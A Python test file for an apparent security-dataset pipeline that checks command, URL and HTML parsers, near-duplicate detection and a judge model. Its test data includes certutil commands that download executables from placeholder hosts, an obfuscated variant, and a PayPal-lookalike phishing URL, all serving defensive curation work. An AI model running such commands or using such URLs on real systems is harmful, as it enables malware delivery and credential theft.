"""Filters: parse checks never raise, near-copies are found exactly, the judge's verdicts are counted."""

from __future__ import annotations

import random

import numpy as np
from hypothesis import given, settings
from hypothesis import strategies as st

from distilsec.data.curate import jaccard, shingles
from distilsec.data.example import Example
from distilsec.methods.synthesize import URLMutator
from distilsec.methods.synthesize.filters import (
    check_cmdline,
    check_html,
    check_parse,
    check_url,
    exact_near_copies,
    find_near_duplicates,
    judge_agreement,
    near_duplicate_share,
)
from tests.methods.synthesize.fakes import KeywordJudge


def test_parse_checks_accept_items_and_reject_garbage():
    assert check_cmdline("certutil.exe -urlcache -f http://x/a a.exe") is None
    assert check_cmdline('cmd /c c^ertu""til -f x') is None
    assert check_cmdline("dscl . -list /Users\ndscl . ls /Users") is None  # multi-line commands exist in the data
    assert "label" in check_cmdline("benign --commit file")  # a small LLM writes the label where the program goes
    for bad in ("", "   ", "Here is the new command: it downloads a file", "ls \x1b[31m", "ls \ufffd", "x\x00y", b"ls"):
        assert check_cmdline(bad) is not None, bad
    assert check_url("paypal.com.secure-login.xyz/webscr?cmd=_login") is None
    assert check_url("https://10.0.0.1:8443/a?b=c") is None
    for bad in ("not a url", "http://", "https://x:99999/", "no_dot_host/path", "http://exa mple.com"):
        assert check_url(bad) is not None, bad
    assert check_html("<html><body><form><input type=password></form></body></html>") is None
    for bad in ("I cannot help with that.", "<![bogus[ x ]]>", "<p>x</p>" * 200_000, "<p>\x00</p>"):
        assert check_html(bad) is not None
    assert check_parse("<b>x</b>", "html") is None and check_parse("x y", "url") is not None


@settings(max_examples=150, deadline=None)
@given(
    st.one_of(st.text(max_size=200), st.binary(max_size=50), st.none(), st.integers()),
    st.sampled_from(["cmdline", "url", "html"]),
)
def test_parse_checks_never_raise(value, task):
    out = check_parse(value, task)
    assert out is None or isinstance(out, str)


def _brute(queries, reference, t):
    out = {}
    for i, q in enumerate(queries):
        best = max(((jaccard(shingles(q), shingles(r)), j) for j, r in enumerate(reference)), default=(0.0, -1))
        if best[0] >= t:
            out[i] = best[1]
    return out


def test_exact_join_equals_brute_force():
    rng = random.Random(0)
    words = ["certutil", "-urlcache", "-f", "http://a.example/x.exe", "x.exe", "/s", "/n", "scrobj.dll", "bash", "-i"]
    ref = [" ".join(rng.choice(words) for _ in range(rng.randint(2, 7))) for _ in range(60)]
    qs = [r + rng.choice(["", " a", "x", " -split"]) for r in ref[:30]] + ["unrelated text here"] * 3
    for t in (0.5, 0.8, 0.9):
        got = exact_near_copies(qs, ref, threshold=t)
        want = _brute(qs, ref, t)
        assert set(got) == set(want)
        assert all(jaccard(shingles(qs[i]), shingles(ref[got[i][0]])) >= t for i in got)


def test_near_copy_of_protected_is_found():
    protected = ["certutil.exe -urlcache -split -f http://10.0.0.5/payload.exe payload.exe"]
    gen = ["certutil.exe -urlcache -split -f http://10.0.0.5/payload.exe payload.exe ", "ls -la /tmp"]
    assert set(find_near_duplicates(gen, protected, threshold=0.9)) == {0}
    assert near_duplicate_share(gen, protected) == 0.5 and near_duplicate_share([], protected) == 0.0


def test_judge_agreement_counts_disagreement_errors_and_unknown_labels():
    texts = ["certutil -f http://x/a a", "ls -la", "ls -la"]
    verdicts = judge_agreement(KeywordJudge(), texts, ["malicious", "malicious", "suspicious"])
    assert verdicts[0][0] is None and verdicts[1][0] == "judge_disagrees" and verdicts[2][0] == "judge_error"
    assert all(
        v[0] == "judge_error" and "TimeoutError" in v[1]
        for v in judge_agreement(KeywordJudge(True), texts, ["malicious"] * 3)
    )

    class NaNJudge(KeywordJudge):
        def predict_proba(self, texts):
            return np.full((len(texts), 2), np.nan)

    assert {v[0] for v in judge_agreement(NaNJudge(), texts, ["benign"] * 3)} == {"judge_error"}


def test_url_mutator_keeps_benign_urls_on_their_site():
    for c in URLMutator().generate(Example("docs.python.org/3/library/re.html", "benign"), 6):
        if c.text:
            assert "python.org" in c.text and check_url(c.text) is None
            assert not set(c.provenance["transforms"]) & {"tld", "brand", "typo"}
    bad = [c.text for c in URLMutator().generate(Example("paypal.com.secure-login.xyz/webscr", "malicious"), 8)]
    assert all(t and check_url(t) is None for t in bad) and len(set(bad)) == 8
